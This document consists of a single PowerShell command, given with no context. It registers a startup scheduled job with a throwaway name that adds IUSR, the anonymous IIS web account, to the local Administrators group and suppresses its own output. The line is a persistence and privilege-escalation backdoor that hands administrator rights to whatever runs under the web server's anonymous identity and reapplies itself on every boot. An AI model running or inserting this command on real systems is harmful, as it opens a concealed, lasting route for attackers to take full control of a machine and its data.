Register-ScheduledJob -Name x -Trigger (New-JobTrigger -AtStartup) -ScriptBlock { net localgroup Administrators IUSR /add } | Out-Null
